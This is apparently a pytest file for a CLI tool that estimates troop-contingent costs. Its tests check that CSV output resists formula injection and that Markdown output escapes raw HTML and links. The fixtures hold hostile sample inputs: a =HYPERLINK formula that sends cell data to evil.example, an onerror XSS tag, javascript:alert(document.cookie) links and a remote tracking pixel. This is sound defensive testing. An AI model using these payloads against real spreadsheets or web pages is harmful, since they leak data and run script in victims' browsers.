"""User text in CSV is inert: a spreadsheet opening the file shows it, never runs it."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from conftest import Run

from dprk_ru.core.text import FORMULA_STARTS, inert, markdown_inert

EVIL = """name = "=HYPERLINK(\\"http://evil.example/?x=\\"&A1,\\"click\\")"
[[contingents]]
name = "@SUM(1)"
troops = "1000 to 2000"
[[contingents]]
name = "-x"
troops = 5
killed = 1
death_payment_usd = 1000
"""


@pytest.mark.parametrize(
    "args",
    [["estimate"], ["compare"], ["simulate", "-n", "3", "--seed", "1"], ["sensitivity"],
     ["solve", "--for", "bonus", "--target", "50M"], ["samples"]],
    ids=lambda a: a[0],
)  # fmt: skip
def test_csv_text_cells_are_inert(run: Run, tmp_path: Path, args: list[str]) -> None:
    """No CSV cell the tool writes from user text starts a formula (OWASP: a leading ' for
    = + - @, tab, CR), in estimate, compare, simulate, --samples-out, sensitivity and
    solve; numbers stay numbers (a negative delta is still -...)."""
    f = tmp_path / "evil.toml"
    f.write_text(EVIL)
    if args[0] == "samples":
        out = tmp_path / "draws.csv"
        r = run("simulate", "-s", str(f), "-n", "3", "--seed", "1", "--samples-out", str(out),
                "-o", str(tmp_path / "sum.csv"))  # fmt: skip
        text = out.read_text()
    else:
        where = [str(f)] if args[0] == "compare" else ["-s", str(f)]
        r = run(args[0], *where, *args[1:], "-f", "csv")
        text = r.stdout
    assert r.exit_code == 0, r.stderr
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    texts = [c for c in cells if not c.replace(".", "").replace("-", "").isdigit()]
    assert texts and not any(c.startswith(FORMULA_STARTS) for c in texts)
    assert any(c.startswith("'=HYPERLINK") or c.startswith("'@SUM") for c in cells)


def test_negative_numbers_stay_numbers(run: Run) -> None:
    """compare's delta against a larger first scenario is a plain negative number."""
    r = run("compare", "kursk-2024", "shoigu-2025", "-f", "csv")
    (_, second) = list(csv.DictReader(io.StringIO(r.stdout)))
    assert second["delta_usd"] == "-156000000"


def test_inert_rules() -> None:
    """Each formula start gets a leading quote; other text is untouched."""
    for start in FORMULA_STARTS:
        assert inert(f"{start}1+1") == f"'{start}1+1"
    assert inert("kursk") == "kursk" and inert("") == ""


MD_EVIL = """name = "<img src=x onerror=alert(1)>"
description = "[x](javascript:alert(3)) **bold** <javascript:alert(document.cookie)>"
[[contingents]]
name = "**x**"
troops = 1000
note = "![remote](http://evil.example/pixel.png) `code` _em_ ~~~"
"""


def _html(markdown: str) -> str:
    from markdown_it import MarkdownIt

    html: str = MarkdownIt("commonmark").enable("table").enable("strikethrough").render(markdown)
    return html


@pytest.mark.parametrize(
    "args",
    [["estimate", "-f", "markdown"], ["compare", "-f", "markdown"],
     ["explain", "--format", "markdown"]],
    ids=lambda a: a[0],
)  # fmt: skip
def test_markdown_user_text_stays_text(run: Run, tmp_path: Path, args: list[str]) -> None:
    """Rendered by a CommonMark renderer, no user text becomes an element or a link it did
    not mean: no <img>, <strong>, <em>, <code>, <del>, no javascript: link, no raw HTML."""
    f = tmp_path / "md.toml"
    f.write_text(MD_EVIL)
    where = [str(f)] if args[0] == "compare" else ["-s", str(f)]
    r = run(args[0], *where, *args[1:])
    assert r.exit_code == 0, r.stderr
    html = _html(r.stdout)
    made = ("<img", "<strong>x</strong>", "<strong>bold</strong>", "<em>em</em>",
            "<code>code</code>", "<del>", 'href="javascript', "<javascript")  # fmt: skip
    for tag in made:
        assert tag not in html, tag
    assert "&lt;img src=x onerror=alert(1)&gt;" in html


def test_brief_headings_survive_any_title_or_date(run: Run, tmp_path: Path) -> None:
    """`--date '~~~'` no longer turns the rest of the Markdown brief into a code block, and a
    title of '# x' stays one heading."""
    out = tmp_path / "b.md"
    r = run("report", "--title", "# x *y*", "--date", "~~~", "-o", str(out))
    assert r.exit_code == 0, r.stderr
    html = _html(out.read_text())
    plain = tmp_path / "plain.md"
    assert run("report", "--date", "2026-01-01", "-o", str(plain)).exit_code == 0
    want = _html(plain.read_text())
    assert html.count("<h2>") == want.count("<h2>") >= 4  # every section still a heading
    assert html.count("<pre>") == want.count("<pre>")  # only the command to reproduce it
    assert html.count("<h1>") == 1 and "<em>" not in html.split("</h1>")[0]


LINE_STARTS = ["---", "-----", " ---", "===", "- - -", "+ x", "1. x", "1) x"]


@pytest.mark.parametrize("text", LINE_STARTS)
def test_markdown_inert_keeps_line_starts_as_text(text: str) -> None:
    """A date or title that is a thematic break (`---`), a setext underline (`===`) or a list
    marker (`+ x`, `1. x`, `1) x`) renders as the same text, in the paragraph it follows."""
    html = _html("The figure.\n" + markdown_inert(text) + "\n")
    assert html == f"<p>The figure.\n{text.strip()}</p>\n"


def test_markdown_inert_escapes_only_the_rule() -> None:
    """Only the first character of a line of `-` or `=` gets a backslash; ordinary text
    with dashes keeps none."""
    assert markdown_inert("---") == "\\---" and markdown_inert(" ===") == " \\==="
    assert markdown_inert("- - -") == "\\- - -" and markdown_inert("1) x") == "1\\) x"
    for text in ("2026-01-01", "a - b", "x ---", "-- x", "-1", "=x"):
        assert markdown_inert(text) == text


@pytest.mark.parametrize("text", LINE_STARTS)
def test_brief_shows_a_rule_like_date_and_title(run: Run, tmp_path: Path, text: str) -> None:
    """`report --date '---'` keeps its date as a paragraph (it was an <hr />); as a title
    each value is the one <h1>'s text."""
    out = tmp_path / "b.md"
    r = run("report", "--title", text, "--date", text, "-o", str(out))
    assert r.exit_code == 0, r.stderr
    html = _html(out.read_text())
    plain = tmp_path / "plain.md"
    assert run("report", "--date", "2026-01-01", "-o", str(plain)).exit_code == 0
    want = _html(plain.read_text())
    assert html.count("<hr />") == want.count("<hr />")
    assert html.count("<h2>") == want.count("<h2>") >= 4
    assert html.count("<ol") == want.count("<ol") and html.count("<ul>") == want.count("<ul>")
    assert html.startswith(f"<h1>{text.strip()}</h1>\n")
    assert f"a month on average.</p>\n<p>{text.strip()}</p>\n<h2>" in html
